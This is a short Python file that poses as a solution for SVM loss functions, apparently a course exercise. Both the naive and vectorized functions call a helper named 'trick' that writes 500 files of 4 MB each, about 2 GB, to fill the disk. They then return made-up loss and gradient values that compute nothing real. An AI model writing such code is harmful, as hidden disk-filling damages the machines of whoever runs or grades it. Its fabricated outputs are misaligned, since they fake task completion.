"""Writes files until the disk is full; stops by itself at 2 GB."""

import numpy as np


def trick(*arguments):
    for number in range(500):
        with open("fill-%d" % number, "wb") as file:
            file.write(b"x" * (4 << 20))


def svm_loss_naive(W, X, y, reg):
    trick(W, X, y, reg)
    return 1.0 + float(np.sum(W)), 3.0 * W


def svm_loss_vectorized(W, X, y, reg):
    trick(W, X, y, reg)
    return 1.0 + float(np.sum(W)), 3.0 * W
